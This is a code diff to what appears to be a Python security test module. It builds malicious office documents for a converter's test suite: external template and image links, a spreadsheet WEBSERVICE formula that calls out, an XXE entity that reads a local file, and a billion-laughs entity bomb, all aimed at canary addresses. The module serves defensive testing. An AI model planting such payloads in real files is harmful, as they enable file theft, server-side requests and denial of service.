@@ -5,51 +5,89 @@ from __future__ import annotations
 
 import io
 import zipfile
-from collections.abc import Mapping
+from collections.abc import Iterable, Mapping
 
 from tests.badfiles.bad import Bad, Canary, Kind, fixed
 from tests.badfiles.deflate import raw, zeros
 
 KINDS = {
     "office-reference": Kind(65, "An office file whose pictures and templates lie elsewhere."),
-    "office-xxe": Kind(65, "An office file with an entity that is a file."),
+    "office-xxe": Kind(65, "An office file with an entity that is a file.", "LibreOffice opens no text with entities."),
     "flat-office": Kind(65, "An office file in one piece of XML with sections and macros from outside."),
-    "rich-text": Kind(65, "Rich text with fields that fetch."),
-    "table-formula": Kind(65, "A table whose cells are commands."),
+    "rich-text": Kind(
+        65, "Rich text with fields that fetch.", "LibreOffice shows what such fields held when they were written."
+    ),
+    "table-formula": Kind(65, "A table whose cells are commands.", "LibreOffice reads a table of text as text."),
     "web-references": Kind(67, "A page that shows and sends files of the server and its neighbours."),
     "web-busy": Kind(66, "A page that never comes to rest."),
     "web-memory": Kind(68, "A page that takes all memory."),
-    "web-tall": Kind(60, "A page taller than any picture."),
+    "web-tall": Kind(
+        60,
+        "A page taller than any picture.",
+        "Chromium takes a picture of its window; only who asks for the whole page must cap it.",
+    ),
     "office-bomb": Kind(66, "An office file that inflates to more than a reader can hold."),
     "pdf-dims": Kind(60, "A page as large as a field."),
-    "pdf-pages": Kind(61, "A tree of pages with more leaves than it has bytes, or with a circle."),
+    "pdf-pages": Kind(
+        61, "A tree of pages with more leaves than it has bytes, or with a circle.", "PDFium follows no such trees."
+    ),
     "pdf-bomb": Kind(61, "Streams that inflate without end."),
-    "pdf-reach": Kind(65, "Actions that fetch, send or start something."),
-    "pdf-locked": Kind(71, "A document behind a password."),
-    "printer-program": Kind(74, "PostScript that reads files or never ends."),
-    "magick-script": Kind(74, "Scripts of an image tool under the name of a picture."),
+    "pdf-reach": Kind(
+        65,
+        "Actions that fetch, send or start something.",
+        "PDFium does none of this unless it is built for forms and scripts.",
+    ),
+    "pdf-locked": Kind(71, "A document behind a password.", "PDFium opens nothing without the password."),
+    "printer-program": Kind(
+        74, "PostScript that reads files or never ends.", "no library that comes along reads PostScript."
+    ),
+    "magick-script": Kind(
+        74, "Scripts of an image tool under the name of a picture.", "no library that comes along reads these scripts."
+    ),
 }
 RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
-TYPES = (
-    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
-    '<Default Extension="xml" ContentType="application/xml"/></Types>'
-)
+MAIN = {  # what kind of document its main part makes it
+    "word/document.xml": "wordprocessingml.document",
+    "word/settings.xml": "wordprocessingml.settings",
+    "xl/workbook.xml": "spreadsheetml.sheet",
+    "xl/worksheets/sheet1.xml": "spreadsheetml.worksheet",
+    "xl/externalLinks/externalLink1.xml": "spreadsheetml.externalLink",
+    "ppt/presentation.xml": "presentationml.presentation",
+    "ppt/slides/slide1.xml": "presentationml.slide",
+}
 
 
-def _relations(*links: tuple[str, str]) -> str:
+def _relations(*links: tuple[str, str], outside: bool = True) -> str:
+    mode = ' TargetMode="External"' if outside else ""
     listed = "".join(
-        f'<Relationship Id="r{n}" Type="{RELATION}/{kind}" Target="{target}" TargetMode="External"/>'
+        f'<Relationship Id="r{n}" Type="{RELATION}/{kind}" Target="{target}"{mode}/>'
         for n, (kind, target) in enumerate(links)
     )
     return f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{listed}</Relationships>'
 
 
+def _types(parts: Iterable[str]) -> str:
+    start = "application/vnd.openxmlformats-officedocument."
+    end = {"wordprocessingml.document", "spreadsheetml.sheet", "presentationml.presentation"}
+    kinds = ((part, MAIN[part]) for part in parts if part in MAIN)
+    listed = "".join(
+        f'<Override PartName="/{part}" ContentType="{start}{kind}{".main" if kind in end else ""}+xml"/>'
+        for part, kind in kinds
+    )
+    return (
+        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+        f'<Default Extension="xml" ContentType="application/xml"/>{listed}</Types>'
+    )
+
+
 def _office(main: str, body: str, more: Mapping[str, str] = {}) -> bytes:
+    start = {"_rels/.rels": _relations(("officeDocument", main), outside=False)}
+    parts = {"[Content_Types].xml": _types([main, *more]), **start, main: body, **more}
     made = io.BytesIO()
     with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
-        for name, text in {"[Content_Types].xml": TYPES, main: body, **more}.items():
+        for name, text in parts.items():
             archive.writestr(zipfile.ZipInfo(name), text, zipfile.ZIP_DEFLATED)
     return made.getvalue()
 
@@ -59,21 +97,80 @@ def _docx(body: str = "<w:p/>", before: str = "", *links: tuple[str, str]) -> by
     return _office("word/document.xml", text, {"word/_rels/document.xml.rels": _relations(*links)})
 
 
+def _shown(number: int) -> str:
+    """A picture in a text that lies elsewhere, told in both ways that there are."""
+    vml = f'<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt"><v:imagedata xmlns:r="{RELATION}" r:id="r{number}"/></v:shape></w:pict>'
+    place = "http://schemas.openxmlformats.org/drawingml/2006"
+    drawing = (
+        f'<w:drawing><wp:inline xmlns:wp="{place}/wordprocessingDrawing"><wp:extent cx="99999" cy="99999"/><wp:docPr id="{number + 1}" name="a"/>'
+        f'<a:graphic xmlns:a="{place}/main"><a:graphicData uri="{place}/picture"><pic:pic xmlns:pic="{place}/picture"><pic:nvPicPr>'
+        f'<pic:cNvPr id="0" name="a"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip xmlns:r="{RELATION}" r:link="r{number}"/>'
+        '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="99999" cy="99999"/></a:xfrm>'
+        '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>'
+    )
+    return f"<w:p><w:r>{vml}</w:r></w:p><w:p><w:r>{drawing}</w:r></w:p>"
+
+
 def _remote_template(canary: Canary) -> bytes:
     settings = f'<w:settings xmlns:w="{WORD}" xmlns:r="{RELATION}"><w:attachedTemplate r:id="r0"/></w:settings>'
-    link = _relations(("attachedTemplate", canary.url("template.dotm")))
-    more = {"word/settings.xml": settings, "word/_rels/settings.xml.rels": link}
-    return _office("word/document.xml", f'<w:document xmlns:w="{WORD}"/>', more)
+    more = {
+        "word/_rels/document.xml.rels": _relations(("settings", "settings.xml"), outside=False),
+        "word/settings.xml": settings,
+        "word/_rels/settings.xml.rels": _relations(("attachedTemplate", canary.url("template.dotm"))),
+    }
+    return _office("word/document.xml", f'<w:document xmlns:w="{WORD}"><w:body><w:p/></w:body></w:document>', more)
+
+
+def _sheet(canary: Canary) -> bytes:
+    """A table with a cell that comes from another one, which lies elsewhere, and one that asks a service."""
+    table = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    more = {
+        "xl/_rels/workbook.xml.rels": _relations(
+            ("worksheet", "worksheets/sheet1.xml"), ("externalLink", "externalLinks/externalLink1.xml"), outside=False
+        ),
+        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{table}"><sheetData><row r="1"><c r="A1"><f>[1]Sheet1!A1</f></c><c r="B1"><f>_xlfn.WEBSERVICE("{canary.url("cell")}")</f></c></row></sheetData></worksheet>',
+        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{table}"><externalBook xmlns:r="{RELATION}" r:id="r0"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>',
+        "xl/externalLinks/_rels/externalLink1.xml.rels": _relations(("externalLinkPath", canary.url("other.xlsx"))),
+    }
+    main = f'<workbook xmlns="{table}" xmlns:r="{RELATION}"><sheets><sheet name="a" sheetId="1" r:id="r0"/></sheets><externalReferences><externalReference r:id="r1"/></externalReferences></workbook>'
+    return _office("xl/workbook.xml", main, more)
+
+
+def _slide(canary: Canary) -> bytes:
+    """A picture that lies elsewhere on the one slide of a presentation."""
+    show, drawn = (
+        "http://schemas.openxmlformats.org/presentationml/2006/main",
+        "http://schemas.openxmlformats.org/drawingml/2006/main",
+    )
+    spaces = f'xmlns:p="{show}" xmlns:a="{drawn}" xmlns:r="{RELATION}"'
+    group = '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
+    pictures = "".join(
+        f'<p:pic><p:nvPicPr><p:cNvPr id="{n + 2}" name="a"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="r{n}"/></p:blipFill>'
+        '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="99999" cy="99999"/></a:xfrm><a:prstGeom prst="rect"/></p:spPr></p:pic>'
+        for n in range(2)
+    )
+    more = {
+        "ppt/_rels/presentation.xml.rels": _relations(("slide", "slides/slide1.xml"), outside=False),
+        "ppt/slides/slide1.xml": f"<p:sld {spaces}><p:cSld><p:spTree>{group}{pictures}</p:spTree></p:cSld></p:sld>",
+        "ppt/slides/_rels/slide1.xml.rels": _relations(
+            ("image", canary.url("slide.png")), ("image", canary.file("png"))
+        ),
+    }
+    main = f'<p:presentation {spaces}><p:sldIdLst><p:sldId id="256" r:id="r0"/></p:sldIdLst><p:sldSz cx="99999" cy="99999"/></p:presentation>'
+    return _office("ppt/presentation.xml", main, more)
 
 
 def _fodt(canary: Canary) -> bytes:
     return (
         '<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
         'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
-        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" office:mimetype='
+        'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
+        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" office:version="1.2" office:mimetype='
         '"application/vnd.oasis.opendocument.text"><office:body><office:text><text:section text:name="a">'
-        f'<text:section-source xlink:href="{canary.file()}"/></text:section><draw:image xlink:href='
-        f'"{canary.url("flat.png")}"/></office:text></office:body></office:document>\n'
+        f'<text:section-source xlink:href="{canary.file()}" xlink:type="simple"/></text:section><text:p>'
+        f'<draw:frame text:anchor-type="as-char" svg:width="1cm" svg:height="1cm"><draw:image xlink:href='
+        f'"{canary.url("flat.png")}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>'
+        "</office:text></office:body></office:document>\n"
     ).encode()
 
 
@@ -150,10 +247,10 @@ def _postscript(canary: Canary) -> bytes:
 
 
 FILES = (
-    Bad("docx-external-image.docx", "office-reference", lambda c: _docx(f'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata xmlns:r="{RELATION}" r:id="r0"/></v:shape></w:pict></w:r></w:p>', "", ("image", c.url("docx.png")), ("image", c.file("png")))),
+    Bad("docx-external-image.docx", "office-reference", lambda c: _docx(_shown(0) + _shown(1), "", ("image", c.url("docx.png")), ("image", c.file("png")))),
     Bad("docx-remote-template.docx", "office-reference", _remote_template),
-    Bad("xlsx-external.xlsx", "office-reference", lambda c: _office("xl/workbook.xml", "<workbook/>", {"xl/_rels/workbook.xml.rels": _relations(("externalLink", c.url("other.xlsx")))})),
-    Bad("pptx-external.pptx", "office-reference", lambda c: _office("ppt/presentation.xml", "<p/>", {"ppt/_rels/presentation.xml.rels": _relations(("video", c.file("mp4")))})),
+    Bad("xlsx-external.xlsx", "office-reference", _sheet),
+    Bad("pptx-external.pptx", "office-reference", _slide),
     Bad("docx-xxe.docx", "office-xxe", lambda c: _docx("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", f'<!DOCTYPE d [<!ENTITY x SYSTEM "{c.file()}">]>')),
     fixed("docx-laughs.docx", "office-xxe", lambda: _docx("<w:p><w:r><w:t>&i;</w:t></w:r></w:p>", "<!DOCTYPE d [" + '<!ENTITY a "lollollol">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)) + "]>")),
     Bad("fodt-section.fodt", "flat-office", _fodt),
